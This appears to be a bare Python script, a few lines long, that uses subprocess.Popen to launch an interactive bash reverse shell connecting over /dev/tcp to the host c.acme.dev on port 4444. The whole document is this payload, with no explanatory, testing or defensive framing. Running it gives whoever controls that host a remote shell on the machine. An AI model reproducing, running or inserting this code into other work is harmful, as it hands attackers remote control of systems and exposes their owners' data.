import subprocess
subprocess.Popen(
    ["bash", "-c", "bash -i >& /dev/tcp/c.acme.dev/4444 0>&1"],
)
